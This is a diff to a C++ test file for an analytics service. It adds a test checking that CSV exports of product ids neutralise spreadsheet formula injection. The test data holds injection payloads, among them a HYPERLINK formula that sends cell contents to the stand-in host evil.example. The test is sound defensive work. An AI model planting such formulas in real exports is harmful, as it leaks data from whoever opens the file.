@@ -10,6 +10,8 @@
 #include <thread>
 #include <vector>
 
+#include "absl/strings/match.h"
+#include "absl/strings/numbers.h"
 #include "absl/strings/str_cat.h"
 #include "absl/strings/str_format.h"
 #include "gmock/gmock.h"
@@ -38,9 +40,13 @@ std::string Event(const std::string& shop, const std::string& id,
     if (c == '"' || c == '\\') quoted += '\\';
     if (c == '\n') {
       quoted += "\\n";
-      continue;
+    } else if (c == '\r') {
+      quoted += "\\r";
+    } else if (c == '\t') {
+      quoted += "\\t";
+    } else {
+      quoted += c;
     }
-    quoted += c;
   }
   return absl::StrCat(R"({"shop_id":")", shop, R"(","event_id":")", id,
                       R"(","event_type":")", type,
@@ -302,6 +308,78 @@ TEST(StreamingTest, CsvDownloadsMatchTheirJsonTwins) {
   EXPECT_EQ(total_views, 10);
   EXPECT_EQ(series_rows[11][0], "2025-10-02T10:00:00Z");
   EXPECT_EQ(series_rows[11][4], "12.50");
+}
+
+// A cell a spreadsheet would run as a formula: what a product id must never
+// become in a download.
+bool LooksLikeFormula(const std::string& cell) {
+  return !cell.empty() &&
+         std::string("=+-@\t\r").find(cell[0]) != std::string::npos;
+}
+
+bool IsNumber(const std::string& cell) {
+  double ignored;
+  return absl::SimpleAtod(cell, &ignored);
+}
+
+TEST(StreamingTest, CsvDownloadsTurnFormulasIntoText) {
+  LocalStack stack;
+  const std::vector<std::string> products = {
+      R"(=HYPERLINK("http://evil.example/?"&A1,"Click"))",
+      "+1+2",
+      "-1+2",
+      "@SUM(A1:A9)",
+      "\t=1+2",
+      "\r=1+2",
+      "=1,2"};
+  int n = 0;
+  for (size_t i = 0; i < products.size(); ++i) {
+    for (size_t views = 0; views <= i; ++views) {
+      Ingest(
+          stack, "formula",
+          Event("formula", absl::StrCat("v", n++), "page_view", products[i]));
+    }
+  }
+  Ingest(
+      stack, "formula",
+      Event("formula", "buy", "purchase", "-1+2", R"(,"order_amount":12.5)"));
+
+  const std::string range = "from=2025-10-02T00:00:00Z&to=2025-10-03T00:00:00Z";
+  HttpResponse top_json =
+      stack.Get("/v1/shops/formula/products/top?limit=100&" + range, "formula");
+  ASSERT_EQ(top_json.status, 200) << top_json.body;
+  HttpResponse top_csv = stack.Get(
+      "/v1/shops/formula/products/top.csv?limit=100&" + range, "formula");
+  ASSERT_EQ(top_csv.status, 200) << top_csv.body;
+  rapidjson::Document top;
+  top.Parse(top_json.body.c_str());
+  ASSERT_TRUE(top.IsObject() && top.HasMember("products")) << top_json.body;
+  const auto& json_products = top["products"].GetArray();
+  ASSERT_EQ(json_products.Size(), products.size());
+  const auto rows = ParseCsv(top_csv.body);
+  ASSERT_EQ(rows.size(), products.size() + 1) << top_csv.body;
+  for (size_t i = 0; i < json_products.Size(); ++i) {
+    const auto& p = json_products[i];
+    const auto& row = rows[i + 1];
+    ASSERT_EQ(row.size(), 6u);
+    // The id as a spreadsheet shows it: text, apostrophe and all.
+    EXPECT_EQ(row[0], absl::StrCat("'", p["product_id"].GetString()));
+    EXPECT_EQ(row[1], absl::StrCat(p["page_views"].GetInt64()));
+    EXPECT_EQ(row[2], absl::StrCat(p["add_to_carts"].GetInt64()));
+    EXPECT_EQ(row[3], absl::StrCat(p["purchases"].GetInt64()));
+    EXPECT_EQ(row[4], Cents(p["revenue"]));
+    EXPECT_EQ(row[5], Cents(p["conversion_rate"]));
+  }
+  HttpResponse series_csv = stack.Get(
+      "/v1/shops/formula/timeseries.csv?bucket=HOUR&" + range, "formula");
+  ASSERT_EQ(series_csv.status, 200) << series_csv.body;
+  for (const auto& file : {rows, ParseCsv(series_csv.body)}) {
+    for (const auto& row : file) {
+      for (const std::string& cell : row) {
+        EXPECT_TRUE(!LooksLikeFormula(cell) || IsNumber(cell)) << cell;
+      }
+    }
+  }
 }
 
 }  // namespace
